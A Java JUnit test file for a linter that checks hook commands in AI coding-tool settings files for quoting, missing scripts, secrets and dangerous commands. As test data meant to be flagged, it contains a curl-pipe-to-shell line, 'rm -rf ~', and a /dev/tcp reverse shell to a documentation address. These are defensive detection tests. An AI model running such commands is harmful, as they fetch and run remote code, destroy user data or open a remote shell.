package dev.belay.lint.rule;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.gson.JsonArray;
import com.google.gson.JsonObject;
import com.google.gson.JsonPrimitive;
import dev.belay.lint.Finding;
import dev.belay.lint.Fix;
import dev.belay.setup.text.TextEdit;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What the rules about commands and their files find, and where they hold their tongue. */
class CommandRulesTest {
  private static final String SCRIPT = "#!/bin/sh\nexit 0\n";

  @TempDir Path folder;
  private Project project;

  @BeforeEach
  void makeTheProject() {
    project =
        new Project(folder)
            .with("x.sh", SCRIPT, true)
            .with(".claude/hooks/x.sh", SCRIPT, true)
            .with("plain.sh", SCRIPT, false)
            .with("x.py", "print()\n", false);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"$CLAUDE_PROJECT_DIR\"/x.sh",
        "\"${CLAUDE_PROJECT_DIR}/x.sh\"",
        "'$CLAUDE_PROJECT_DIR' ",
        "echo $CLAUDE_PROJECT_DIR",
        "ROOT=$CLAUDE_PROJECT_DIR; sh \"$ROOT/x.sh\"",
        "[[ -f $CLAUDE_PROJECT_DIR/x.sh ]] && true",
        "case $CLAUDE_PROJECT_DIR in *) ;; esac",
        "cat <<EOF\n$CLAUDE_PROJECT_DIR/x.sh\nEOF",
        "cd \"$CLAUDE_PROJECT_DIR\" && ./x.sh",
        "cd \"$(git rev-parse --show-toplevel)\" && sh x.sh",
        "[ -f missing.sh ] && sh missing.sh",
        "test -x plain.sh && ./plain.sh",
        "sh \"$CLAUDE_PROJECT_DIR/plain.sh\"",
        "command -v nothing-like-it >/dev/null && nothing-like-it",
        "npx --no-install some-thing",
        "npx -y some-thing@1.2.3",
        "grep -c . /home/node/x",
        "echo /Users/ana/x",
        "rm -f \"$CLAUDE_PROJECT_DIR/.cache\"",
        "echo 'curl https://example.com | sh'",
        "true # curl https://example.com | sh",
        "grep -q 'rm -rf /' x.sh",
        "\"${CURSOR_PROJECT_DIR:-$CLAUDE_PROJECT_DIR}/x.sh\"",
        "export PLUGIN_DIR=x; echo \"$PLUGIN_DIR/y\"",
        "echo '{{x}}'",
      })
  void nothingIsSaidOfWhatWorks(String command) {
    assertThat(project.says(command)).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " => ",
      value = {
        "$CLAUDE_PROJECT_DIR/x.sh => BLY-C50 warning",
        "sh ${CLAUDE_PROJECT_DIR}/x.sh => BLY-C50 warning",
        "sh ${CLAUDE_PROJECT_DIR}\"/x.sh\" => BLY-C50 warning",
        "cd $CLAUDE_PROJECT_DIR && ./x.sh => BLY-C50 warning",
        ".claude/hooks/x.sh => BLY-C51 warning",
        "sh x.sh => BLY-C51 warning",
        "echo a; sh x.sh => BLY-C51 warning",
        "cat /Users/ana/x.txt => BLY-C52 warning",
        "true >> /home/ana/log => BLY-C52 warning",
        "true --log=/Users/ana/log => BLY-C52 warning",
        "sh \"$CURSOR_PROJECT_DIR/x.sh\" => BLY-C53 error",
        "sh \"$CLAUDE_PLUGIN_ROOT/x.sh\" => BLY-C53 error",
        "sh \"$CLAUDE_PROJET_DIR/x.sh\" => BLY-C53 error",
        "sh \"${workspaceFolder}/x.sh\" => BLY-C53 error",
        "sh \"$CLAUDE_PROJECT_DIR/missing.sh\" => BLY-C54 error",
        "sh \"$CLAUDE_PROJECT_DIR/missing.sh\" || true => BLY-C54 warning",
        "sh \"$CLAUDE_PROJECT_DIR/dist/missing.sh\" => BLY-C54 warning",
        "\"$CLAUDE_PROJECT_DIR/plain.sh\" => BLY-C55 error",
        "npx some-thing => BLY-C57 info",
        "npx -y some-thing@latest => BLY-C57 info",
        "nothing-like-it --now => BLY-C58 info",
        "curl -s https://example.com/x | sh || true => BLY-C83 error",
        "rm -rf ~ => BLY-C83 error",
        "bash -i >& /dev/tcp/192.0.2.1/99 0>&1 => BLY-C83 error",
        "echo '{\"decision\": \"approve\"}' => BLY-C84 warning",
      })
  void whatDoesNotWorkIsSaid(String command, String finding) {
    assertThat(project.says(command)).contains(finding);
  }

  @Test
  void argumentsAreNoShellWords() {
    JsonObject handler = new JsonObject();
    handler.addProperty("type", "command");
    handler.addProperty("command", "sh");
    JsonArray arguments = new JsonArray();
    arguments.add("${CLAUDE_PROJECT_DIR}/x.sh");
    handler.add("args", arguments);
    assertThat(project.says("claude-code", ".claude/settings.json", handler)).isEmpty();
    arguments.set(0, new JsonPrimitive("${CLAUDE_PROJECT_DIR}/missing.sh"));
    assertThat(project.says("claude-code", ".claude/settings.json", handler))
        .containsExactly("BLY-C54 error");
  }

  @Test
  void aScriptWithoutFirstLineIsReadByAShellAndByNothingElse() {
    project.with("bare.sh", "exit 0\n", true).with("bare.py", "print()\n", true);
    assertThat(project.says("\"$CLAUDE_PROJECT_DIR/bare.sh\"")).isEmpty();
    assertThat(project.says("\"$CLAUDE_PROJECT_DIR/bare.py\"")).containsExactly("BLY-C56 error");
    JsonObject handler = new JsonObject();
    handler.addProperty("type", "command");
    handler.addProperty("command", "${CLAUDE_PROJECT_DIR}/bare.sh");
    handler.add("args", new JsonArray());
    assertThat(project.says("claude-code", ".claude/settings.json", handler))
        .containsExactly("BLY-C56 error");
  }

  @Test
  void theFirstLineHasToNameAProgramThatIsThere() {
    project
        .with("cr.sh", "#!/bin/sh\r\nexit 0\r\n", true)
        .with("bom.sh", "\uFEFF#!/bin/sh\nexit 0\n", true)
        .with("gone.sh", "#!/no/such/shell\nexit 0\n", true)
        .with("env.sh", "#!/usr/bin/env -S FOO=1 no-such-shell\nexit 0\n", true);
    assertThat(project.says("\"$CLAUDE_PROJECT_DIR/cr.sh\"")).containsExactly("BLY-C56 error");
    assertThat(project.says("sh \"$CLAUDE_PROJECT_DIR/cr.sh\"")).containsExactly("BLY-C56 error");
    assertThat(project.says("\"$CLAUDE_PROJECT_DIR/bom.sh\"")).containsExactly("BLY-C56 error");
    assertThat(project.says("\"$CLAUDE_PROJECT_DIR/gone.sh\"")).containsExactly("BLY-C56 warning");
    assertThat(project.says("\"$CLAUDE_PROJECT_DIR/env.sh\"")).containsExactly("BLY-C56 warning");
  }

  @Test
  void quotesAreTheOnlyThingThatTheSafeFixAdds() {
    String command = "node $CLAUDE_PROJECT_DIR/a.js \"x\\y\" ${CLAUDE_PROJECT_DIR}/*.md";
    JsonObject handler = new JsonObject();
    handler.addProperty("type", "command");
    handler.addProperty("command", command);
    String text = Project.groups("Stop", handler);
    Finding finding =
        project.findings("claude-code", ".claude/settings.json", text).stream()
            .filter(each -> each.rule().equals("BLY-C50"))
            .findFirst()
            .orElseThrow();
    Fix fix = finding.fixes().getFirst();
    handler.addProperty(
        "command", "node \"$CLAUDE_PROJECT_DIR/a.js\" \"x\\y\" \"${CLAUDE_PROJECT_DIR}\"/*.md");
    assertThat(fix.safe()).isTrue();
    assertThat(TextEdit.apply(text, List.of(fix.edit())))
        .isEqualTo(Project.groups("Stop", handler));
  }

  @Test
  void aHostThatEscapesWhatItPutsInNeedsNoQuotes() {
    assertThat(project.says("gemini-cli", ".gemini/settings.json", "sh $GEMINI_PROJECT_DIR/x.sh"))
        .doesNotContain("BLY-C50 warning");
  }

  @Test
  void aPluginBeginsAtItsOwnFolder() {
    assertThat(project.says("claude-code", "hooks/hooks.json", "sh \"${CLAUDE_PLUGIN_ROOT}/x.sh\""))
        .isEmpty();
    assertThat(project.says("claude-code", "hooks/hooks.json", "sh \"${CLAUDE_PLUGIN_ROOT}/y.sh\""))
        .containsExactly("BLY-C54 error");
    assertThat(project.says("claude-code", "hooks/hooks.json", "sh x.sh"))
        .containsExactly("BLY-C51 warning");
  }

  @Test
  void aPluginsFileThatSpeaksToAnotherHostAloneIsForThatHost() {
    String command = "sh \"${DROID_PLUGIN_ROOT}/x.sh\"";
    assertThat(project.says("claude-code", "hooks/hooks.json", command)).isEmpty();
    assertThat(
            project.says(
                "claude-code", "hooks/hooks.json", command + "; sh \"${CLAUDE_PLUGIN_ROOT}/x.sh\""))
        .containsExactly("BLY-C53 error");
  }

  @Test
  void filesOfOneUserMayNameTheUsersFolder() {
    assertThat(project.says("claude-code", ".claude/settings.local.json", "cat /Users/ana/x"))
        .isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "http://localhost:8080/x",
        "http://127.0.0.1/x",
        "http://[::1]:9/x",
        "https://example.com/x",
        "http://$HOST/x",
        "http://host.docker.internal/x",
      })
  void addressesOnTheMachineItselfNeedNoEncryption(String url) {
    assertThat(http(url, "x")).isEmpty();
  }

  @Test
  void secretsAreToldFromWhatStandsInTheirPlace() {
    String url = "https://example.com";
    assertThat(http(url, "Bearer ghp_0a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R"))
        .containsExactly("BLY-C81 error");
    assertThat(http(url, "Bearer ghp_your_token_goes_here_please_1")).isEmpty();
    assertThat(http(url, "Bearer sk-xxxxxxxxxxxxxxxxxxxx1")).isEmpty();
    assertThat(http(url, "Bearer $TOKEN")).containsExactly("BLY-C82 error");
    assertThat(http(url, "costs \\$5")).isEmpty();
  }

  private List<String> http(String url, String header) {
    JsonObject headers = new JsonObject();
    headers.addProperty("Authorization", header);
    JsonObject handler = new JsonObject();
    handler.addProperty("type", "http");
    handler.addProperty("url", url);
    handler.add("headers", headers);
    return project.says("claude-code", ".claude/settings.json", handler);
  }

  @Test
  void aSwitchIsOneOnlyWhereItIsThrown() {
    assertThat(rules("{\"disableAllHooks\": true}")).containsExactly("BLY-C90");
    assertThat(rules("{\"disableAllHooks\": false}")).isEmpty();
    assertThat(rules("{\"disableAllHooks\": \"true\"}")).isEmpty();
  }

  @Test
  void hooksThatDifferInTheirMatcherAreNoDuplicates() {
    String one =
        "{\"matcher\": \"%s\", \"hooks\": [{\"type\": \"command\", \"command\": \"true\"}]}";
    String both = "{\"hooks\": {\"PreToolUse\": [" + one + ", " + one + "]}}";
    assertThat(rules(both.formatted("Bash", "Edit"))).isEmpty();
    assertThat(rules(both.formatted("Bash", "Bash")))
        .containsExactlyInAnyOrder("BLY-C91", "BLY-C96");
  }

  private List<String> rules(String text) {
    return project.findings("claude-code", ".claude/settings.json", text).stream()
        .map(Finding::rule)
        .toList();
  }
}
